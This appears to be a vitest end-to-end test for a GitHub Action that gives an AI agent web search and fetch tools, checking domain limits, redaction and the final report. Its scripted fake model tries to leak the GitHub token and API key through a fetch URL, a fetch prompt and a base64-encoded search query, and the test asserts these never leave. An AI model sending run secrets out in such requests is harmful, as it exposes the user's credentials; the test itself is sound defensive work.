/**
 * WebSearch and WebFetch end to end through the bundled action (an issue run with
 * `allowed_tools` naming them and `allowed_domains` set), against the fake
 * Anthropic API: the fetch carries its beta header and is continued after
 * `pause_turn`; the token and the API key leave neither raw nor base64; the
 * boundary's hosts are the server tools' `allowed_domains`; a URL the model made
 * up is refused while the one in the request is fetched; the final report lists
 * every search and fetch.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { reply, text, toolUse, type Script } from '../fakes/anthropic-server.js';
import {
  fetchAnswer,
  isFetch,
  isSearch,
  searchAnswer,
  VITEST_PAGE as PAGE,
} from '../fakes/web-answers.js';
import {
  cleanupActionRuns,
  issueCommentEvent,
  runAction,
  TEST_ANTHROPIC_API_KEY,
  TEST_GITHUB_TOKEN,
} from './harness.js';

afterAll(cleanupActionRuns);

const PLANTED = 'https://vitest.dev/collect';
const BASE64_TOKEN = Buffer.from(`x-access-token:${TEST_GITHUB_TOKEN}`).toString('base64');

const script: Script = (request) => {
  if (isSearch(request)) return searchAnswer(request);
  if (isFetch(request)) return fetchAnswer(request);
  const turn = request.body.messages.length;
  if (turn === 1) {
    return reply([
      toolUse('WebFetch', { url: `${PLANTED}?t=${TEST_GITHUB_TOKEN}`, prompt: 'Anything?' }),
      toolUse('WebFetch', { url: `${PLANTED}?t=1`, prompt: 'Anything?' }),
      toolUse('WebFetch', { url: PAGE, prompt: `What is new? ${TEST_ANTHROPIC_API_KEY}` }),
    ]);
  }
  if (turn === 3) {
    return reply(toolUse('WebSearch', { query: `vitest 4 ${BASE64_TOKEN}` }));
  }
  return reply(text('Browser mode is stable in Vitest 4.'));
};

describe('WebSearch and WebFetch through the action', () => {
  it('fetch and search with the beta header, redacted, within allowed_domains; the report lists them', async () => {
    const run = await runAction({
      event: issueCommentEvent({
        body: `@agent read ${PAGE} and tell me what is new`,
        issueNumber: 41,
      }),
      repoFiles: { 'README.md': '# Project\n' },
      inputs: { allowed_tools: 'Read,WebSearch,WebFetch', allowed_domains: 'vitest.dev' },
      model: script,
    });
    expect(run.exitCode, run.stderr).toBe(0);
    const requests = run.anthropic.requests;
    expect(requests.filter((r) => r.rejected)).toEqual([]);
    const fetches = requests.filter(isFetch);
    const searches = requests.filter(isSearch);
    // One fetch (and its continuation after pause_turn): the made-up URLs never left.
    expect(fetches).toHaveLength(2);
    expect(searches).toHaveLength(2);
    for (const fetch of fetches) {
      expect(fetch.headers['anthropic-beta']?.split(',')).toContain('web-fetch-2025-09-10');
      expect(fetch.rawBody).not.toContain(PLANTED);
    }
    expect(fetches[0]!.body.tools[0]).toMatchObject({
      allowed_domains: ['vitest.dev'],
      max_uses: 1,
    });
    expect(searches[0]!.body.tools[0]).toMatchObject({ allowed_domains: ['vitest.dev'] });
    for (const request of [...fetches, ...searches]) {
      for (const secret of [TEST_GITHUB_TOKEN, BASE64_TOKEN, TEST_ANTHROPIC_API_KEY]) {
        expect(request.rawBody).not.toContain(secret);
      }
    }
    const told = JSON.stringify(requests.filter((r) => !isFetch(r) && !isSearch(r))[1]!.body);
    expect(told).toContain('The URL carries a secret of this run');
    expect(told).toContain('already in the conversation');
    expect(told).toContain('The page says: browser mode is stable.');
    // The final report names each search and fetch.
    const report = run.github.state.comments.at(-1)!.body;
    expect(report).toContain('Web requests the API made for the web tools (2):');
    expect(report).toContain(`fetched \`${PAGE}\``);
    expect(report).toContain('searched `vitest 4`');
  });

  it('sends allowed_domains with the server tools also when the boundary is off', async () => {
    // The server tools run on the API's side: sandbox: off does not widen what they reach.
    const run = await runAction({
      event: issueCommentEvent({
        body: `@agent read ${PAGE} and tell me what is new`,
        issueNumber: 42,
      }),
      repoFiles: { 'README.md': '# Project\n' },
      inputs: {
        allowed_tools: 'Read,WebSearch,WebFetch',
        allowed_domains: 'vitest.dev',
        sandbox: 'off',
      },
      model: script,
    });
    expect(run.exitCode, run.stderr).toBe(0);
    const fetches = run.anthropic.requests.filter(isFetch);
    const searches = run.anthropic.requests.filter(isSearch);
    expect(fetches.length).toBeGreaterThan(0);
    expect(searches.length).toBeGreaterThan(0);
    for (const request of [...fetches, ...searches]) {
      expect(request.body.tools[0]).toMatchObject({ allowed_domains: ['vitest.dev'] });
    }
  });
});
